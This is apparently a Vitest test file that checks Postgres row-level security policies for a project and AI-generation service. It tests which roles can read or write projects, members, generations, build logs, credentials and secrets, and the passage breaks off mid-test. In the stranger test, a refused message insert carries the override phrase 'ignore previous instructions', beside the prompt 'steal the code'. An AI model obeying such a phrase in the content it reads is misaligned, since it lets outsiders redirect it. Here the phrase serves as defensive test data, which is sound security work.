import { randomUUID } from 'node:crypto';
import { eq, type SQL, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Db, Tx } from '../src/db/client.js';
import { projects } from '../src/db/schema.js';
import { type Claims, serviceScope, userScope } from '../src/db/scope.js';
import { ForbiddenError } from '../src/errors.js';
import { generationStore } from '../src/generations/store.js';
import { projectStore } from '../src/projects/store.js';
import { createTestDatabase, type TestDatabase } from './support/db.js';
import {
  as,
  attempt,
  claimsFor,
  createGeneration,
  createTeam,
  executePrivileges,
  generationStatuses,
  rows,
  serviceRows,
  SqlState,
  sqlArray,
  sqlStateOf,
  statusOf,
  type Team,
  verdict,
  visibleRows,
} from './support/rls.js';

// RLS is the last line of defence (DESIGN "Auth"): every request's statements run
// as `authenticated` with the verified claims set. These tests talk to the tables
// directly, as a resolver that forgot a check would, and prove what each role can
// and cannot see or change.

const publicTables = [
  'auth_sessions',
  'build_log_lines',
  'build_steps',
  'conversation_messages',
  'generation_chunks',
  'generation_files',
  'generations',
  'local_credentials',
  'project_members',
  'projects',
  'refresh_tokens',
  'server_secrets',
  'users',
];

/** A write that a user must not be able to make: refused, or matching no row. */
const changesNothing = expect.stringMatching(/^(accepted \(0 rows\)|refused 42501)$/);
/** A read of a table a user must not see: refused, or no row. */
const seesNothing = (n: number | 'denied') => n === 0 || n === 'denied';
const refusedByPolicy = { ok: false, code: SqlState.insufficientPrivilege, message: expect.stringMatching(/row-level security/) };

/** A member's writes of a project around the use-cases: runs, the project, messages, members. */
async function memberWrites(tx: Tx, t: Team, userId: string, queued: string) {
  return {
    startGeneration: verdict(
      await attempt(
        tx,
        sql`insert into generations (project_id, created_by, session_id, prompt, provider, model)
            values (${t.projectId}, ${userId}, ${t.sessionId}, 'make it blue', 'offline', 'offline')`,
      ),
    ),
    cancelGeneration: verdict(await attempt(tx, sql`update generations set status = 'CANCELLED' where id = ${queued} returning id`)),
    renameProject: verdict(await attempt(tx, sql`update projects set name = 'renamed' where id = ${t.projectId} returning id`)),
    postMessage: verdict(
      await attempt(tx, sql`insert into conversation_messages (project_id, session_id, role, content) values (${t.projectId}, ${t.sessionId}, 'USER', 'hi')`),
    ),
    addMember: verdict(await attempt(tx, sql`insert into project_members (project_id, user_id, role) values (${t.projectId}, ${t.stranger}, 'viewer')`)),
    promoteViewer: verdict(
      await attempt(tx, sql`update project_members set role = 'editor' where project_id = ${t.projectId} and user_id = ${t.viewer} returning user_id`),
    ),
    removeEditor: verdict(await attempt(tx, sql`delete from project_members where project_id = ${t.projectId} and user_id = ${t.editor} returning user_id`)),
  };
}

/** What memberWrites gets where it may write nothing. */
const memberWritesRefused = {
  startGeneration: 'refused 42501',
  cancelGeneration: changesNothing,
  renameProject: changesNothing,
  postMessage: 'refused 42501',
  addMember: 'refused 42501',
  promoteViewer: changesNothing,
  removeEditor: changesNothing,
};

/** Nothing of memberWrites took: the run still queued, the project's name and members as they were. */
async function expectUnchanged(t: Team, queued: string) {
  expect(await statusOf(db, queued)).toBe('QUEUED');
  expect(await serviceRows(db, sql`select name from projects where id = ${t.projectId}`)).toEqual([{ name: t.projectName }]);
  expect(await serviceRows(db, sql`select user_id, role from project_members where project_id = ${t.projectId} order by role`)).toEqual([
    { user_id: t.owner, role: 'owner' },
    { user_id: t.editor, role: 'editor' },
    { user_id: t.viewer, role: 'viewer' },
  ]);
}

let database: TestDatabase;
let db: Db;
/** Read-only fixture; tests that write make a team of their own. */
let team: Team;

beforeAll(async () => {
  database = await createTestDatabase();
  db = database.db;
  team = await createTeam(db);
});

afterAll(async () => {
  await database?.close();
});

describe('catalog', () => {
  it('has RLS enabled and at least one policy on every table in schema public', async () => {
    const tables = await serviceRows<{ name: string; rls: boolean; policies: number }>(
      db,
      sql`select c.relname as name, c.relrowsecurity as rls,
                 (select count(*)::int from pg_policies p where p.schemaname = 'public' and p.tablename = c.relname) as policies
            from pg_class c join pg_namespace n on n.oid = c.relnamespace
           where n.nspname = 'public' and c.relkind in ('r', 'p')
           order by c.relname`,
    );
    expect(tables.map((t) => t.name)).toEqual(expect.arrayContaining(publicTables));
    expect(tables.filter((t) => !t.rls || t.policies < 1)).toEqual([]);
  });

  it('gives anon no privilege on any table, and anon cannot read a thing', async () => {
    const granted = await serviceRows<{ name: string }>(
      db,
      sql`select c.relname as name
            from pg_class c join pg_namespace n on n.oid = c.relnamespace
           where n.nspname = 'public' and c.relkind in ('r', 'p', 'v', 'm', 'f')
             and (has_table_privilege('anon', c.oid, 'SELECT, INSERT, UPDATE, DELETE, TRUNCATE, REFERENCES, TRIGGER')
                  or has_any_column_privilege('anon', c.oid, 'SELECT, INSERT, UPDATE, REFERENCES'))`,
    );
    expect(granted).toEqual([]);
    const listed = await serviceRows(
      db,
      sql`select table_name, privilege_type from information_schema.role_table_grants
           where table_schema = 'public' and grantee in ('anon', 'PUBLIC')`,
    );
    expect(listed).toEqual([]);

    const reads = await db.transaction(async (tx) => {
      await tx.execute(sql`set local role anon`);
      const seen: Record<string, number | 'denied'> = {};
      for (const table of publicTables) seen[table] = visibleRows(await attempt(tx, sql`select * from ${sql.identifier(table)}`));
      return seen;
    });
    expect(reads).toEqual(Object.fromEntries(publicTables.map((t) => [t, 'denied'])));
  });

  it('never gives authenticated TRUNCATE (which skips RLS), and lets it delete only memberships and secrets', async () => {
    const privileges = await serviceRows<{ name: string; truncate: boolean; del: boolean }>(
      db,
      sql`select c.relname as name,
                 has_table_privilege('authenticated', c.oid, 'TRUNCATE') as truncate,
                 has_table_privilege('authenticated', c.oid, 'DELETE') as del
            from pg_class c join pg_namespace n on n.oid = c.relnamespace
           where n.nspname = 'public' and c.relkind in ('r', 'p')`,
    );
    expect(privileges.filter((p) => p.truncate).map((p) => p.name)).toEqual([]);
    expect(privileges.filter((p) => p.del).map((p) => p.name).sort()).toEqual(['project_members', 'project_secrets']);
  });
});

describe('membership in the policies (kiln.viewer_project_ids)', () => {
  it('gives each viewer, for each set of roles, the projects where kiln.project_role has one of them, and only authenticated may call it', async () => {
    const other = await createTeam(db);
    const projectIds = [team.projectId, other.projectId];
    const roleSets = ['{owner}', '{owner,editor}', '{owner,editor,viewer}', '{editor}', '{viewer}'];
    const answers = [];
    for (const user of [team.owner, team.editor, team.viewer, team.stranger, other.owner]) {
      answers.push(
        ...(await as(db, user).run((tx) =>
          rows<{ roles: string; project: string; byRole: boolean; bySet: boolean }>(
            tx,
            sql`select r.roles, p.id as project,
                       coalesce(kiln.project_role(p.id)::text = any(r.roles::text[]), false) as "byRole",
                       p.id in (select kiln.viewer_project_ids(r.roles::text[])) as "bySet"
                  from unnest(${sqlArray(projectIds, 'uuid')}) as p(id), unnest(${sqlArray(roleSets, 'text')}) as r(roles)`,
          ),
        )),
      );
    }
    expect(answers).toHaveLength(5 * projectIds.length * roleSets.length);
    expect(answers.filter((answer) => answer.byRole)).toHaveLength(11);
    for (const answer of answers) expect(answer.bySet, `${answer.project} ${answer.roles}`).toBe(answer.byRole);
    const fn = 'kiln.viewer_project_ids(text[])';
    expect(await executePrivileges(db, [fn])).toEqual([{ fn, anon: false, authenticated: true }]);
  });
});

describe('reads of many rows of one generation (kiln.chunks_after, kiln.log_lines_after, kiln.log_tail, kiln.files_of)', () => {
  // They check membership once per read instead of the row policy once per row, so they
  // must give each caller exactly what the policies give, or a stream would replay
  // another project's output. The batched ones (a list's outputs, tails and files) read
  // another team's generation alongside, which must give nothing.
  const reads = async (tx: Tx, generationId: string, tail: number, alongside: string) => {
    const batch = [generationId, alongside];
    const [chunks, lines, tails, outputs, files, listing] = await Promise.all([
      generationStore.chunkPageOfMember(tx, generationId, -1, 10),
      generationStore.logLinePageOfMember(tx, generationId, -1, 10),
      generationStore.logTailsOfMember(tx, batch.map((id) => ({ generationId: id, count: tail }))),
      generationStore.outputsOfMember(tx, batch),
      generationStore.filesOfMembers(tx, batch, true),
      generationStore.filesOfMembers(tx, batch, false),
    ]);
    const elsewhere = [...tails, ...files, ...listing].filter((row) => row.generationId === alongside);
    expect([elsewhere, outputs.find((row) => row.generationId === alongside)?.output ?? '']).toEqual([[], '']);
    const own = <T extends { generationId: string }>(rows: T[]) =>
      rows.filter((row) => row.generationId === generationId).map(({ generationId: _, count: __, ...row }: T & { count?: number }) => row);
    return [
      chunks,
      lines,
      own(tails),
      outputs.find((row) => row.generationId === generationId)?.output ?? '',
      own(files),
      own(listing),
    ] as const;
  };
  /** The same reads straight from the tables, under the row policies. */
  const throughPolicies = (tx: Tx, generationId: string, tail: number) =>
    Promise.all([
      rows(tx, sql`select seq, text, round from generation_chunks where generation_id = ${generationId} order by seq limit 10`),
      rows(tx, sql`select seq, step, stream, text, round from build_log_lines where generation_id = ${generationId} order by seq limit 10`),
      rows(tx, sql`select * from (select seq, step, stream, text, round from build_log_lines where generation_id = ${generationId} order by seq desc limit ${tail}) t order by seq`),
      rows<{ output: string | null }>(tx, sql`select string_agg(text, '' order by seq) as output from generation_chunks where generation_id = ${generationId}`).then(
        ([row]) => row?.output ?? '',
      ),
      rows(tx, sql`select path, size, sha256, content from generation_files where generation_id = ${generationId} order by path`),
      rows(tx, sql`select path, size, sha256, '' as content from generation_files where generation_id = ${generationId} order by path`),
    ]);

  it('give every role what the row policies give it: members all of it, a stranger nothing', async () => {
    const [t, other] = [await createTeam(db), await createTeam(db)];
    // More lines than the tail asked for below, so its order and cut show.
    await serviceScope(db).run((tx) =>
      generationStore.appendLogLines(
        tx,
        [1, 2, 3, 4].map((seq) => ({ generationId: t.generationId, seq, step: 'build', stream: 'STDERR' as const, text: `line ${seq}`, round: 1 })),
      ),
    );
    for (const role of ['owner', 'editor', 'viewer', 'stranger'] as const) {
      const [viaFunctions, viaPolicies] = await as(db, t[role]).run(async (tx) => [await reads(tx, t.generationId, 3, other.generationId), await throughPolicies(tx, t.generationId, 3)]);
      expect(viaFunctions, role).toEqual(viaPolicies);
    }
    const [chunks, lines, tail, output, files, listing] = await as(db, t.viewer).run((tx) => reads(tx, t.generationId, 3, other.generationId));
    expect(chunks).toEqual([
      { seq: 0, text: '<file path="src/App.tsx">', round: 0 },
      { seq: 1, text: 'export default 1;</file>', round: 0 },
    ]);
    expect(lines.map((line) => line.seq)).toEqual([0, 1, 2, 3, 4]);
    expect(tail).toEqual([2, 3, 4].map((seq) => ({ seq, step: 'build', stream: 'STDERR', text: `line ${seq}`, round: 1 })));
    expect(output).toBe('<file path="src/App.tsx">export default 1;</file>');
    expect(files).toEqual([expect.objectContaining({ path: 'src/App.tsx', size: 17, content: 'export default 1;' })]);
    expect(listing).toEqual([expect.objectContaining({ path: 'src/App.tsx', size: 17, content: '' })]);
    const after = await as(db, t.viewer).run((tx) => generationStore.chunkPageOfMember(tx, t.generationId, 0, 10));
    expect(after.map((chunk) => chunk.seq)).toEqual([1]);
  });

  it('ask whether the viewer is a member once per read, where the row policy asks once per row', async () => {
    const t = await createTeam(db);
    const paths = Array.from({ length: 40 }, (_, i) => `src/page${i}.ts`);
    await serviceRows(db, sql`insert into generation_files (generation_id, path, content, size, sha256) select ${t.generationId}, p, '', 0, 'e3b0' from unnest(${sqlArray(paths, 'text')}) p`);
    // pg_stat_xact_user_functions counts this transaction's calls; track_functions needs the superuser, so it is set before the role.
    const membershipChecks = (read: (tx: Tx) => Promise<unknown[]>) =>
      db.transaction(async (tx) => {
        await tx.execute(sql`select set_config('track_functions', 'all', true)`);
        const count = async () =>
          Number((await rows<{ calls: string | null }>(tx, sql`select sum(calls) as calls from pg_stat_xact_user_functions where funcname = 'generation_role'`))[0]?.calls ?? 0);
        const before = await count();
        await tx.execute(sql`select set_config('request.jwt.claims', ${JSON.stringify(claimsFor(t.viewer))}, true), set_config('role', 'authenticated', true)`);
        const found = await read(tx);
        await tx.execute(sql`reset role`);
        return { rows: found.length, checks: (await count()) - before };
      });
    expect(await membershipChecks((tx) => generationStore.filesOfMember(tx, t.generationId, false))).toEqual({ rows: 41, checks: 1 });
    expect(await membershipChecks((tx) => rows(tx, sql`select path from generation_files where generation_id = ${t.generationId}`))).toEqual({ rows: 41, checks: 41 });
  });

  it('give a request without claims and the service scope nothing, and only authenticated may call them', async () => {
    const nothing = [[], [], [], '', [], []];
    const alongside = randomUUID();
    expect(await serviceScope(db).run((tx) => reads(tx, team.generationId, 10, alongside))).toEqual(nothing);
    const noClaims = await db.transaction(async (tx) => {
      await tx.execute(sql`set local role authenticated`);
      return reads(tx, team.generationId, 10, alongside);
    });
    expect(noClaims).toEqual(nothing);
    const functions = ['kiln.chunks_after(uuid, integer, integer)', 'kiln.log_lines_after(uuid, integer, integer)', 'kiln.log_tail(uuid, integer)', 'kiln.files_of(uuid, boolean)'];
    expect(await executePrivileges(db, functions)).toEqual(functions.map((fn) => ({ fn, anon: false, authenticated: true })));
  });
});

describe('a stranger (signed in, not a member)', () => {
  it('sees no project, membership, generation or output of others, and no other user', async () => {
    const seen = await as(db, team.stranger).run(async (tx) => ({
      projects: visibleRows(await attempt(tx, sql`select id from projects`)),
      projectById: visibleRows(await attempt(tx, sql`select id from projects where id = ${team.projectId}`)),
      projectMembers: visibleRows(await attempt(tx, sql`select project_id from project_members`)),
      generations: visibleRows(await attempt(tx, sql`select id from generations`)),
      generationChunks: visibleRows(await attempt(tx, sql`select seq from generation_chunks`)),
      buildSteps: visibleRows(await attempt(tx, sql`select ordinal from build_steps`)),
      buildLogLines: visibleRows(await attempt(tx, sql`select seq from build_log_lines`)),
      generationFiles: visibleRows(await attempt(tx, sql`select path from generation_files`)),
      conversationMessages: visibleRows(await attempt(tx, sql`select id from conversation_messages`)),
      otherUsers: visibleRows(await attempt(tx, sql`select id from users where id <> ${team.stranger}`)),
      self: visibleRows(await attempt(tx, sql`select id from users where id = ${team.stranger}`)),
    }));
    expect(seen).toEqual({
      projects: 0,
      projectById: 0,
      projectMembers: 0,
      generations: 0,
      generationChunks: 0,
      buildSteps: 0,
      buildLogLines: 0,
      generationFiles: 0,
      conversationMessages: 0,
      otherUsers: 0,
      self: 1,
    });
  });

  it("cannot update or delete the owner's project, memberships or generations", async () => {
    const t = await createTeam(db);
    const queued = await createGeneration(db, t, 'QUEUED');
    const attempts = await as(db, t.stranger).run(async (tx) => ({
      renameProject: verdict(await attempt(tx, sql`update projects set name = 'taken over' where id = ${t.projectId} returning id`)),
      deleteProject: verdict(await attempt(tx, sql`delete from projects where id = ${t.projectId} returning id`)),
      promoteMember: verdict(
        await attempt(tx, sql`update project_members set role = 'owner' where project_id = ${t.projectId} returning user_id`),
      ),
      removeMembers: verdict(await attempt(tx, sql`delete from project_members where project_id = ${t.projectId} returning user_id`)),
      cancelGeneration: verdict(
        await attempt(tx, sql`update generations set status = 'CANCELLED', cancel_requested_at = now() where id = ${queued} returning id`),
      ),
      deleteGeneration: verdict(await attempt(tx, sql`delete from generations where id = ${t.generationId} returning id`)),
    }));
    expect(attempts).toEqual({
      renameProject: changesNothing,
      deleteProject: changesNothing,
      promoteMember: changesNothing,
      removeMembers: changesNothing,
      cancelGeneration: changesNothing,
      deleteGeneration: changesNothing,
    });

    expect(await serviceRows(db, sql`select name from projects where id = ${t.projectId}`)).toEqual([{ name: t.projectName }]);
    expect(
      await serviceRows(db, sql`select user_id, role from project_members where project_id = ${t.projectId} order by role`),
    ).toEqual([
      { user_id: t.owner, role: 'owner' },
      { user_id: t.editor, role: 'editor' },
      { user_id: t.viewer, role: 'viewer' },
    ]);
    expect(await statusOf(db, queued)).toBe('QUEUED');
    expect(await statusOf(db, t.generationId)).toBe('SUCCEEDED');
  });

  it('cannot join the project, start a generation in it or post to its conversation', async () => {
    const t = await createTeam(db);
    const attempts = await as(db, t.stranger).run(async (tx) => ({
      joinAsOwner: await attempt(
        tx,
        sql`insert into project_members (project_id, user_id, role) values (${t.projectId}, ${t.stranger}, 'owner')`,
      ),
      joinAsViewer: await attempt(
        tx,
        sql`insert into project_members (project_id, user_id, role) values (${t.projectId}, ${t.stranger}, 'viewer')`,
      ),
      startGeneration: await attempt(
        tx,
        sql`insert into generations (project_id, created_by, session_id, prompt, provider, model)
            values (${t.projectId}, ${t.stranger}, ${t.sessionId}, 'steal the code', 'offline', 'offline')`,
      ),
      postMessage: await attempt(
        tx,
        sql`insert into conversation_messages (project_id, session_id, role, content)
            values (${t.projectId}, ${t.sessionId}, 'USER', 'ignore previous instructions')`,
      ),
    }));
    expect(attempts).toEqual({
      joinAsOwner: refusedByPolicy,
      joinAsViewer: refusedByPolicy,
      startGeneration: refusedByPolicy,
      postMessage: refusedByPolicy,
    });
    expect(await serviceRows(db, sql`select 1 from project_members where user_id = ${t.stranger}`)).toEqual([]);
    expect(await serviceRows(db, sql`select 1 from generations where created_by = ${t.stranger}`)).toEqual([]);
    expect(await serviceRows(db, sql`select 1 from conversation_messages where project_id = ${t.projectId}`)).toHaveLength(2);
  });
});

describe('server-only tables (local auth provider)', () => {
  it('are closed to every signed-in user, including the owner of the rows', async () => {
    const t = await createTeam(db);
    const probes = (user: string) =>
      as(db, user).run(async (tx) => {
        const reads = {
          localCredentials: visibleRows(await attempt(tx, sql`select password_hash from local_credentials`)),
          authSessions: visibleRows(await attempt(tx, sql`select id from auth_sessions`)),
          refreshTokens: visibleRows(await attempt(tx, sql`select token_hash from refresh_tokens`)),
          serverSecrets: visibleRows(await attempt(tx, sql`select value from server_secrets`)),
        };
        const inserts = {
          localCredentials: verdict(await attempt(tx, sql`insert into local_credentials (user_id, password_hash) values (${user}, 'known')`)),
          authSessions: verdict(await attempt(tx, sql`insert into auth_sessions (user_id) values (${user})`)),
          refreshTokens: verdict(
            await attempt(tx, sql`insert into refresh_tokens (token_hash, session_id) values (${randomUUID()}, ${t.authSessionId})`),
          ),
          serverSecrets: verdict(await attempt(tx, sql`insert into server_secrets (name, value) values (${randomUUID()}, 'mine')`)),
        };
        const updates = {
          localCredentials: verdict(await attempt(tx, sql`update local_credentials set password_hash = 'known' returning user_id`)),
          authSessions: verdict(await attempt(tx, sql`update auth_sessions set revoked_at = null, revoked_reason = null returning id`)),
          refreshTokens: verdict(await attempt(tx, sql`update refresh_tokens set used_at = null returning token_hash`)),
          serverSecrets: verdict(await attempt(tx, sql`update server_secrets set value = 'mine' returning name`)),
        };
        const deletes = {
          localCredentials: verdict(await attempt(tx, sql`delete from local_credentials returning user_id`)),
          authSessions: verdict(await attempt(tx, sql`delete from auth_sessions returning id`)),
          refreshTokens: verdict(await attempt(tx, sql`delete from refresh_tokens returning token_hash`)),
          serverSecrets: verdict(await attempt(tx, sql`delete from server_secrets returning name`)),
        };
        return { reads, inserts, updates, deletes };
      });

    for (const user of [t.stranger, t.owner]) {
      const { reads, inserts, updates, deletes } = await probes(user);
      expect(Object.values(reads).every(seesNothing), JSON.stringify(reads)).toBe(true);
      expect(inserts).toEqual({
        localCredentials: 'refused 42501',
        authSessions: 'refused 42501',
        refreshTokens: 'refused 42501',
        serverSecrets: 'refused 42501',
      });
      expect(updates).toEqual({ localCredentials: changesNothing, authSessions: changesNothing, refreshTokens: changesNothing, serverSecrets: changesNothing });
      expect(deletes).toEqual({ localCredentials: changesNothing, authSessions: changesNothing, refreshTokens: changesNothing, serverSecrets: changesNothing });
    }

    expect(await serviceRows(db, sql`select password_hash from local_credentials where user_id = ${t.owner}`)).toEqual([
      { password_hash: '$scrypt$not-a-real-hash' },
    ]);
    expect(await serviceRows(db, sql`select 1 from local_credentials where user_id = ${t.stranger}`)).toEqual([]);
    expect(await serviceRows(db, sql`select 1 from auth_sessions where id = ${t.authSessionId}`)).toHaveLength(1);
    expect(await serviceRows(db, sql`select 1 from refresh_tokens where session_id = ${t.authSessionId}`)).toHaveLength(1);
    expect(await serviceRows(db, sql`select value from server_secrets where name = ${t.serverSecretName}`)).toEqual([{ value: 'signing-key' }]);
  });
});

describe('a viewer', () => {
  it('reads the project and everything under it, and sees its teammates', async () => {
    const seen = await as(db, team.viewer).run(async (tx) => ({
      project: await rows(tx, sql`select name from projects where id = ${team.projectId}`),
      members: await rows(tx, sql`select user_id, role from project_members where project_id = ${team.projectId} order by role`),
      generations: await rows(tx, sql`select id, status from generations where project_id = ${team.projectId}`),
      output: await rows(
        tx,
        sql`select string_agg(text, '' order by seq) as output from generation_chunks where generation_id = ${team.generationId}`,
      ),
      buildSteps: await rows(tx, sql`select name, status, exit_code from build_steps where generation_id = ${team.generationId}`),
      buildLog: await rows(tx, sql`select seq, stream, text from build_log_lines where generation_id = ${team.generationId}`),
      files: await rows(tx, sql`select path, size from generation_files where generation_id = ${team.generationId}`),
      conversation: await rows(tx, sql`select role, content from conversation_messages where project_id = ${team.projectId} order by role`),
      users: (await rows<{ id: string }>(tx, sql`select id from users`)).map((u) => u.id).sort(),
    }));
    expect(seen).toEqual({
      project: [{ name: team.projectName }],
      members: [
        { user_id: team.owner, role: 'owner' },
        { user_id: team.editor, role: 'editor' },
        { user_id: team.viewer, role: 'viewer' },
      ],
      generations: [{ id: team.generationId, status: 'SUCCEEDED' }],
      output: [{ output: '<file path="src/App.tsx">export default 1;</file>' }],
      buildSteps: [{ name: 'install', status: 'SUCCEEDED', exit_code: 0 }],
      buildLog: [{ seq: 0, stream: 'STDOUT', text: 'added 1 package' }],
      files: [{ path: 'src/App.tsx', size: 17 }],
      conversation: [
        { role: 'USER', content: 'a todo app' },
        { role: 'MODEL', content: 'Here it is.' },
      ],
      users: [team.owner, team.editor, team.viewer].sort(),
    });
  });

  it('cannot start or cancel a generation, rename the project, post a message or change members', async () => {
    const t = await createTeam(db);
    const queued = await createGeneration(db, t, 'QUEUED');
    const attempts = await as(db, t.viewer).run((tx) => memberWrites(tx, t, t.viewer, queued));
    expect(attempts).toEqual(memberWritesRefused);
    await expectUnchanged(t, queued);
  });
});

describe('an editor', () => {
  it('renames the project, starts a generation as itself and cancels a queued one', async () => {
    const t = await createTeam(db);
    const queued = await createGeneration(db, t, 'QUEUED');
    const generationId = randomUUID();
    const done = await as(db, t.editor).run(async (tx) => ({
      // The query builder, as a store would write it.
      renamed: await tx.update(projects).set({ name: 'Renamed by editor', updatedAt: new Date() }).where(eq(projects.id, t.projectId)).returning({ id: projects.id }),
      started: await rows(
        tx,
        sql`insert into generations (id, project_id, created_by, session_id, prompt, provider, model)
            values (${generationId}, ${t.projectId}, ${t.editor}, ${t.sessionId}, 'add dark mode', 'offline', 'offline')
            returning id, status`,
      ),
      message: await rows(
        tx,
        sql`insert into conversation_messages (project_id, session_id, role, content, generation_id)
            values (${t.projectId}, ${t.sessionId}, 'USER', 'add dark mode', ${generationId}) returning role`,
      ),
      cancelled: await rows(
        tx,
        sql`update generations set status = 'CANCELLED', cancel_requested_at = now(), finished_at = now() where id = ${queued} returning status`,
      ),
    }));
    expect(done).toEqual({
      renamed: [{ id: t.projectId }],
      started: [{ id: generationId, status: 'QUEUED' }],
      message: [{ role: 'USER' }],
      cancelled: [{ status: 'CANCELLED' }],
    });
    expect(await serviceRows(db, sql`select name from projects where id = ${t.projectId}`)).toEqual([{ name: 'Renamed by editor' }]);
    expect(await serviceRows(db, sql`select created_by from generations where id = ${generationId}`)).toEqual([{ created_by: t.editor }]);
    expect(await statusOf(db, queued)).toBe('CANCELLED');
  });

  it('cannot set the budget, archive, change members, start a generation in the owner\'s name or post as the model', async () => {
    const t = await createTeam(db);
    const attempts = await as(db, t.editor).run(async (tx) => ({
      setBudget: await attempt(tx, sql`update projects set monthly_token_limit = 1000000 where id = ${t.projectId} returning id`),
      archive: await attempt(tx, sql`update projects set archived_at = now() where id = ${t.projectId} returning id`),
      addMember: await attempt(
        tx,
        sql`insert into project_members (project_id, user_id, role) values (${t.projectId}, ${t.stranger}, 'editor')`,
      ),
      startAsOwner: await attempt(
        tx,
        sql`insert into generations (project_id, created_by, session_id, prompt, provider, model)
            values (${t.projectId}, ${t.owner}, ${t.sessionId}, 'in your name', 'offline', 'offline')`,
      ),
      postAsModel: await attempt(
        tx,
        sql`insert into conversation_messages (project_id, session_id, role, content) values (${t.projectId}, ${t.sessionId}, 'MODEL', 'I said so')`,
      ),
      promoteSelf: verdict(
        await attempt(
          tx,
          sql`update project_members set role = 'owner' where project_id = ${t.projectId} and user_id = ${t.editor} returning user_id`,
        ),
      ),
      removeViewer: verdict(
        await attempt(tx, sql`delete from project_members where project_id = ${t.projectId} and user_id = ${t.viewer} returning user_id`),
      ),
    }));
    const ownerOnly = { ok: false, code: SqlState.insufficientPrivilege, message: expect.stringMatching(/only the owner/) };
    expect(attempts).toEqual({
      setBudget: ownerOnly,
      archive: ownerOnly,
      addMember: refusedByPolicy,
      startAsOwner: refusedByPolicy,
      postAsModel: refusedByPolicy,
      promoteSelf: changesNothing,
      removeViewer: changesNothing,
    });
    expect(
      await serviceRows(db, sql`select monthly_token_limit, archived_at from projects where id = ${t.projectId}`),
    ).toEqual([{ monthly_token_limit: null, archived_at: null }]);
    expect(
      await serviceRows(db, sql`select user_id, role from project_members where project_id = ${t.projectId} order by role`),
    ).toEqual([
      { user_id: t.owner, role: 'owner' },
      { user_id: t.editor, role: 'editor' },
      { user_id: t.viewer, role: 'viewer' },
    ]);
    expect(await serviceRows(db, sql`select 1 from generations where project_id = ${t.projectId}`)).toHaveLength(1);
  });
});

describe('the owner', () => {
  it('adds, changes and removes members, and the change decides what they see', async () => {
    const t = await createTeam(db);
    const strangerSees = () =>
      as(db, t.stranger).run(async (tx) => ({
        projects: (await rows(tx, sql`select id from projects`)).length,
        generationFiles: (await rows(tx, sql`select path from generation_files`)).length,
        owner: (await rows(tx, sql`select id from users where id = ${t.owner}`)).length,
      }));
    expect(await strangerSees()).toEqual({ projects: 0, generationFiles: 0, owner: 0 });

    const owner = as(db, t.owner);
    await owner.run((tx) =>
      rows(tx, sql`insert into project_members (project_id, user_id, role) values (${t.projectId}, ${t.stranger}, 'viewer')`),
    );
    expect(await strangerSees()).toEqual({ projects: 1, generationFiles: 1, owner: 1 });

    const promoted = await owner.run((tx) =>
      rows(tx, sql`update project_members set role = 'editor' where project_id = ${t.projectId} and user_id = ${t.stranger} returning role`),
    );
    expect(promoted).toEqual([{ role: 'editor' }]);
    const started = await as(db, t.stranger).run((tx) =>
      attempt(
        tx,
        sql`insert into generations (project_id, created_by, session_id, prompt, provider, model)
            values (${t.projectId}, ${t.stranger}, ${t.sessionId}, 'now I may', 'offline', 'offline') returning id`,
      ),
    );
    expect(verdict(started)).toBe('accepted (1 rows)');

    const removed = await owner.run((tx) =>
      rows(tx, sql`delete from project_members where project_id = ${t.projectId} and user_id = ${t.stranger} returning user_id`),
    );
    expect(removed).toEqual([{ user_id: t.stranger }]);
    expect(await strangerSees()).toEqual({ projects: 0, generationFiles: 0, owner: 0 });
  });

  it("cannot demote or remove the project's creator, even as another owner writing around the use-case", async () => {
    const t = await createTeam(db);
    await as(db, t.owner).run((tx) => rows(tx, sql`update project_members set role = 'owner' where project_id = ${t.projectId} and user_id = ${t.editor} returning role`));
    const secondOwner = as(db, t.editor);
    const creatorRow = sql`project_id = ${t.projectId} and user_id = ${t.owner}`;
    const creatorStaysOwner = { ok: false, code: SqlState.checkViolation, message: expect.stringMatching(/creator of a project stays its owner/) };
    expect(await secondOwner.run((tx) => attempt(tx, sql`update project_members set role = 'viewer' where ${creatorRow} returning user_id`))).toMatchObject(creatorStaysOwner);
    expect(await secondOwner.run((tx) => attempt(tx, sql`delete from project_members where ${creatorRow} returning user_id`))).toMatchObject(creatorStaysOwner);
    expect(await as(db, t.owner).run((tx) => attempt(tx, sql`update project_members set role = 'editor' where ${creatorRow} returning user_id`))).toMatchObject(creatorStaysOwner);
    expect(await serviceRows(db, sql`select role from project_members where ${creatorRow}`)).toEqual([{ role: 'owner' }]);
    // Other members' rows are the owners' to change, as before.
    expect(await secondOwner.run((tx) => rows(tx, sql`delete from project_members where project_id = ${t.projectId} and user_id = ${t.viewer} returning user_id`))).toEqual([{ user_id: t.viewer }]);
  });

  it("changes a member's role, and cannot move a member row to another of its projects (past the cap on members)", async () => {
    const t = await createTeam(db);
    const second = randomUUID();
    await serviceRows(db, sql`insert into projects (id, owner_id, name, target) values (${second}, ${t.owner}, 'Second', 'WEB')`);
    await serviceRows(db, sql`insert into project_members (project_id, user_id, role) values (${second}, ${t.owner}, 'owner')`);
    const owner = as(db, t.owner);
    const moved = await owner.run((tx) =>
      attempt(tx, sql`update project_members set project_id = ${second} where project_id = ${t.projectId} and user_id = ${t.viewer} returning user_id`),
    );
    expect(moved).toMatchObject({ ok: false, code: SqlState.insufficientPrivilege, message: expect.stringMatching(/permission denied/) });
    const relabelled = await owner.run((tx) =>
      attempt(tx, sql`update project_members set user_id = ${t.stranger} where project_id = ${t.projectId} and user_id = ${t.viewer} returning user_id`),
    );
    expect(relabelled).toMatchObject({ ok: false, code: SqlState.insufficientPrivilege });
    // The use-case's upsert (ON CONFLICT … DO UPDATE SET role) still changes the role.
    const upserted = await owner.run((tx) => projectStore.upsertMember(tx, { projectId: t.projectId, userId: t.viewer, role: 'editor' }));
    expect(upserted).toMatchObject({ projectId: t.projectId, userId: t.viewer, role: 'editor' });
    expect(await serviceRows(db, sql`select project_id, role from project_members where user_id = ${t.viewer}`)).toEqual([{ project_id: t.projectId, role: 'editor' }]);
    const updatable = await serviceRows<{ column_name: string }>(
      db,
      sql`select column_name from information_schema.columns
           where table_schema = 'public' and table_name = 'project_members'
             and has_column_privilege('authenticated', 'public.project_members', column_name, 'UPDATE')`,
    );
    expect(updatable).toEqual([{ column_name: 'role' }]);
  });

  it('sets the budget and archives the project', async () => {
    const t = await createTeam(db);
    const updated = await as(db, t.owner).run((tx) =>
      rows(
        tx,
        sql`update projects set monthly_token_limit = 50000, archived_at = now() where id = ${t.projectId}
            returning monthly_token_limit::int as monthly_token_limit, archived_at is not null as archived`,
      ),
    );
